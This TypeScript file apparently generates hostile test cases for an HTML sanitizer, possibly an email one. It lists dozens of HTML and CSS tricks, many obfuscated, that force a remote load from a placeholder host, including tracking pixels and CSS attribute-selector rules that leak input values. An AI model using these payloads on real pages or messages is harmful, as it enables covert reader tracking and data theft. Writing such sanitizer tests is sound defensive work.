// Remote loads: each tells the sender who reads the message, when and where.
import { entries, type HostileCase, table } from './case.ts';

const PIXEL = 'data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA=';

const ELEMENTS = {
  'img': '<img src="{url}">',
  'img-upper-case': '<IMG SRC="{url}">',
  'img-in-link': '<a href="https://x.example/"><img src="{url}"></a>',
  'img-lazy': '<img loading=lazy src="{url}">',
  'img-anonymous': '<img crossorigin src="{url}">',
  'img-low-priority': '<img fetchpriority=low decoding=async src="{url}">',
  'img-hidden': '<img style="display:none" src="{url}">',
  'img-pixel': '<img width=1 height=1 src="{url}">',
  'image': '<image src="{url}">',
  'srcset': '<img srcset="{url} 1x, {url}?2 2x">',
  'srcset-widths': `<img src="${PIXEL}" srcset="{url} 1w, {url}?9 900w" sizes=100vw>`,
  'picture': `<picture><source srcset="{url}"><img src="${PIXEL}"></picture>`,
  'picture-media': `<picture><source media="(min-width:1px)" srcset="{url}"><img src="${PIXEL}"></picture>`,
  'picture-type': `<picture><source type=image/webp srcset="{url}"><img src="${PIXEL}"></picture>`,
  'video': '<video src="{url}"></video>',
  'video-poster': '<video poster="{url}"></video>',
  'video-source': '<video><source src="{url}"></video>',
  'audio': '<audio src="{url}" preload=auto></audio>',
  'audio-source': '<audio preload=auto><source src="{url}"></audio>',
  'track': '<video src="{url}"><track default kind=captions src="{url}?track"></video>',
  'input-image': '<input type=image src="{url}">',
  'iframe': '<iframe src="{url}"></iframe>',
  'iframe-srcdoc': '<iframe srcdoc="<img src={url}>"></iframe>',
  'iframe-data': '<iframe src="data:text/html,<img src={url}>"></iframe>',
  'object': '<object data="{url}"></object>',
  'object-image': '<object type=image/png data="{url}"></object>',
  'embed': '<embed src="{url}">',
  'script': '<script src="{url}"></script>',
  'script-module': '<script type=module src="{url}"></script>',
  'svg-image': '<svg><image href="{url}" width=9 height=9 /></svg>',
  'svg-image-xlink': '<svg><image xlink:href="{url}" width=9 height=9 /></svg>',
  'svg-fe-image': '<svg><filter id=f><feImage href="{url}" /></filter><rect filter="url(#f)" width=9 height=9 /></svg>',
  'svg-style': '<svg><style>@import "{url}"</style></svg>',
  'svg-animate-image': '<svg><image width=9 height=9><set attributeName=href to="{url}" /></image></svg>',
  'svg-script': '<svg><script href="{url}"></script></svg>',
  'shadow-root': '<div><template shadowrootmode=open><img src="{url}"></template></div>',
  'base': '<base href="{url}/"><img src=x>',
  'conditional-comment': '<!--[if !mso]><!--><img src="{url}"><!--<![endif]-->',
  'noscript-end': '<noscript></noscript><img src="{url}">',
};

const LINKS = [
  'stylesheet', 'alternate stylesheet', 'prefetch', 'modulepreload',
  'preload" as="image', 'preload" as="style', 'preload" as="script', 'preload" as="font" crossorigin="', 'preload" as="fetch" crossorigin="',
  'STYLESHEET', 'stylesheet" type="text/css" media="all', 'preload" as="image" imagesrcset="{url}?set',
];

/** Elements with a `background` attribute. */
const BACKGROUNDS = {
  'body': '<body background="{url}">x',
  'table': '<table background="{url}"><tr><td>x</table>',
  'tr': '<table><tr background="{url}"><td>x</table>',
  'td': '<table><tr><td background="{url}">x</table>',
  'th': '<table><tr><th background="{url}">x</table>',
  'thead': '<table><thead background="{url}"><tr><td>x</table>',
  'tbody': '<table><tbody background="{url}"><tr><td>x</table>',
  'tfoot': '<table><tfoot background="{url}"><tr><td>x</table>',
};

/** Spellings of a remote address in `src`. */
const ADDRESSES = [
  '//{host}/', '\\\\{host}\\', '/\\{host}/', 'https:\\\\{host}\\', 'HTTPS://{host}/', ' \thttps://{host}/', 'ht\ntps://{host}/', 'https:/\t/{host}/',
  '&#104;ttps://{host}/', 'https&colon;&sol;&sol;{host}/', '&#47;&#47;{host}/', 'http://{host}/', 'https://user@{host}/', 'https:///{host}/',
  'https:////{host}/', 'https://{host}:8443/', 'https://ｈostile.example/', '\u0001https://{host}/',
];

/** Declarations that load an address; `LOAD` is a function with it. */
const DECLARATIONS: Record<string, string> = {
  'background': 'background:LOAD',
  'background-with-color': 'background:#fff LOAD no-repeat 0 0/cover',
  'background-image': 'background-image:LOAD',
  'background-second': `background-image:linear-gradient(red,red),LOAD`,
  'border-image': 'border:9px solid;border-image:LOAD 9',
  'border-image-source': 'border:9px solid;border-image-source:LOAD',
  'webkit-border-image': 'border:9px solid;-webkit-border-image:LOAD 9',
  'list-style': 'display:list-item;list-style:LOAD',
  'list-style-image': 'display:list-item;list-style-image:LOAD',
  'content': 'content:LOAD',
  'cursor': 'cursor:LOAD,auto',
  'cursor-hot-spot': 'cursor:LOAD 2 2,pointer',
  'mask': 'mask:LOAD',
  'mask-image': 'mask-image:LOAD',
  'webkit-mask': '-webkit-mask:LOAD',
  'webkit-mask-image': '-webkit-mask-image:LOAD',
  'webkit-mask-box-image': '-webkit-mask-box-image:LOAD',
  'webkit-mask-box-image-source': '-webkit-mask-box-image-source:LOAD',
  'webkit-box-reflect': '-webkit-box-reflect:below 0 LOAD',
  'shape-outside': 'float:left;shape-outside:LOAD',
  'clip-path': 'clip-path:LOAD',
  'variable': '--x:LOAD;background:var(--x)',
  'variable-fallback': 'background:var(--none,LOAD)',
  'all-important': 'background:LOAD!important',
  'inherit-later': 'background-image:LOAD;background-repeat:inherit',
};

/** Functions with an address. */
const FUNCTIONS: Record<string, string> = {
  'image-set': 'image-set("{url}" 1x)',
  'image-set-url': 'image-set(url({url}) 1x)',
  'image-set-type': 'image-set("{url}" type("image/png"))',
  'webkit-image-set': '-webkit-image-set(url("{url}") 1x)',
  'cross-fade': '-webkit-cross-fade(url("{url}"),url("{url}?2"),50%)',
  'image-set-in-cross-fade': '-webkit-cross-fade(image-set("{url}" 1x),linear-gradient(red,red),50%)',
};

/** Spellings of `url()`. In an attribute, `"` becomes an entity. */
const SPELLINGS = [
  'url({url})', 'url("{url}")', "url('{url}')", 'URL("{url}")', 'u\\72l({url})', '\\75 rl({url})', '\\000075rl("{url}")',
  'ur\\6c("{url}")', 'u\\72 \\6C("{url}")', 'url( \t\n"{url}" \n)', 'url(\\68ttps://{host}/)', 'url(https\\3a//{host}/)',
  'url("\\68 ttps://{host}/")', 'url("https:\\2f\\2fHOST/")', 'url("htt\\\nps://{host}/")', 'url("{url}"', "url('{url}", 'url({url}', '/**/url("{url}")/**/',
  'url("//{host}/")', 'url(//{host}/)', 'url("\\\\\\\\{host}/")', 'url("HTTPS://{host}/")', 'url(" {url}")', 'url("{url}#x")', 'url("https:/\t/{host}/")',
  'url("{url}")url', 'url({url})0 0', 'none,url("{url}")', 'linear-gradient(red,blue),url("{url}")',
];

/** Sheets that load an address. */
const SHEETS = {
  'import': '@import "{url}";',
  'import-url': '@import url({url});',
  'import-upper-case': '@IMPORT URL("{url}");',
  'import-escaped': '@\\69mport "{url}";',
  'import-layer': '@import "{url}" layer(x);',
  'import-supports': '@import "{url}" supports(display:block);',
  'import-media': '@import "{url}" screen;',
  'import-after-charset': '@charset "utf-8";@import "{url}";',
  'import-comment': '/**/@import/**/"{url}";',
  'import-cdo': '<!-- @import "{url}"; -->',
  'import-unclosed': '@import "{url}',
  'import-after-layer': '@layer x;@import "{url}";',
  'import-nested-data': `@import "data:text/css,@import%20'{url}'";`,
  'font-face': '@font-face{font-family:f;src:url({url})}p{font-family:f}',
  'font-face-format': '@font-face{font-family:f;src:url({url}) format("woff2")}p{font-family:f}',
  'font-face-local': '@font-face{font-family:f;src:local("none-such"),url({url})}p{font-family:f}',
  'font-face-range': '@font-face{font-family:f;unicode-range:U+77-77;src:url({url})}p{font-family:f}',
  'keyframes': '@keyframes k{from,to{background-image:url({url})}}p{animation:k 9s}',
  'media': '@media screen{p{background:url({url})}}',
  'media-not': '@media not print{p{background:url({url})}}',
  'supports': '@supports(display:block){p{background:url({url})}}',
  'layer': '@layer x{p{background:url({url})}}',
  'container': 'div{container-type:inline-size}@container(min-width:0){p{background:url({url})}}',
  'scope': '@scope(div){p{background:url({url})}}',
  'starting-style': 'p{transition:background 9s}@starting-style{p{background:url({url})}}',
  'nesting': 'div{& p{background:url({url})}}',
  'property': '@property --x{syntax:"<image>";inherits:false;initial-value:linear-gradient(red,red)}p{--x:url({url});background:var(--x)}',
  'before': 'p::before{content:url({url})}',
  'after-words': 'p:after{content:"x" url({url})}',
  'marker': 'p{display:list-item}p::marker{content:url({url})}',
  'first-letter': 'p::first-letter{background:url({url})}',
  'first-line': 'p::first-line{background:url({url})}',
  'attribute-selector': 'input[value^="s"]{background:url({url})}',
  'attribute-selector-class': 'p[class*="sec"]{background:url({url})}',
  'has': 'div:has(p){background:url({url})}',
  'universal': '*{background:url({url})}',
  'body': 'body{background:url({url})}',
  'html': 'html{background:url({url})}',
  'unclosed-rule': 'p{background:url({url})',
  'unclosed-before': 'a{color:red;{}p{x:y}}p{background:url({url})}',
  'bad-string-before': 'a{content:"x\n}p{background:url({url})}',
  'escaped-property': 'p{back\\67round:url({url})}',
  'escaped-selector': '\\70{background:url({url})}',
  'cdo-before': '<!--p{background:url({url})}-->',
  'variable-on-root': ':root{--x:url({url})}p{background:var(--x)}',
  'variable-chain': ':root{--x:url({url});--y:var(--x)}p{background:var(--y)}',
  'counter-style': '@counter-style c{system:cyclic;symbols:"x"}p{display:list-item;list-style:c url({url})}',
  'view-transition': 'p{view-transition-name:x;background-image:image-set("{url}" 1x)}',
};

/** The sheet and what it applies to. */
const sheet = (css: string) => `<style>${css}</style><div><p class=secret>words</p><input value=secret></div>`;
const attribute = (css: string) => `<p style="${css.replaceAll('&', '&amp;').replaceAll('"', '&quot;')}">words</p>`;
export function loads(): HostileCase[] {
  const css = (prefix: string, rows: Record<string, string>) => {
    const named = Object.entries(rows);
    return [
      ...table('load', 'attribute', ['CVE-2021-32707', 'CVE-2026-48846'], entries(named, ([name, text]) => [`${prefix}-${name}`, attribute(text)])),
      ...table('load', 'css', ['CVE-2026-48846', 'CVE-2026-35542'], entries(named, ([name, text]) => [`${prefix}-${name}`, sheet(`p{${text}}`)])),
    ];
  };
  const declarations = entries(Object.entries(DECLARATIONS), ([name, text]) => [name, text.replace('LOAD', 'url("{url}#x")')]);
  const functions = entries(Object.entries(FUNCTIONS), ([name, text]) => [name, `background-image:${text}`]);
  const spellings = entries(SPELLINGS, (text, index) => [`${index}`, `background:${text}`]);
  return [
    ...table('load', 'element', ['CVE-2026-25916', 'CVE-2026-35545', 'CVE-2024-42010'], ELEMENTS),
    ...table('load', 'element', ['CVE-2010-0464'], entries(LINKS, (rel) => [`link-${rel.replace(/\W+/g, '-')}`, `<link rel="${rel}" href="{url}">`])),
    ...table('load', 'attribute', ['CVE-2026-35542'], entries(Object.entries(BACKGROUNDS), ([name, html]) => [`background-${name}`, html])),
    ...table('load', 'attribute', ['CVE-2021-39220'], entries(ADDRESSES, (address, index) => [`address-${index}`, `<img src="${address}x.png">`])),
    ...css('property', declarations),
    ...css('function', functions),
    ...css('spelling', spellings),
    ...table('load', 'css', ['CVE-2025-66376', 'CVE-2026-26079'], entries(Object.entries(SHEETS), ([name, text]) => [`sheet-${name}`, sheet(text)])),
    ...table('load', 'attribute', [], {
      'ping': '<a href="#x" ping="{url}">x</a>',
      'ping-list': '<a href="https://x.example/" ping="{url} {url}?2">x</a>',
      'svg-fill': '<svg><rect fill="url({url}#x)" width=9 height=9 /></svg>',
      'svg-mask': '<svg><rect mask="url({url}#x)" width=9 height=9 /></svg>',
      'svg-clip-path': '<svg><rect clip-path="url({url}#x)" width=9 height=9 /></svg>',
      'svg-cursor': '<svg><rect cursor="url({url}),auto" width=9 height=9 /></svg>',
      'entity-in-style': '<p style="background&#58;&#117;rl(&#39;{url}&#39;)">x</p>',
      'named-entity-in-style': '<p style="background:url&lpar;{url}&rpar;">x</p>',
      'ampersand-smuggling': '<p style="color:red&#59;background:url({url})">x</p>',
      'img-relative': '<img src="/hostile/app.png">',
      'img-relative-name': '<img src="hostile.png?app">',
      'style-relative': '<p style="background:url(/hostile/app.png)">x</p>',
      'style-relative-api': '<p style="background:url(../../api/hostile)">x</p>',
    }),
  ];
}
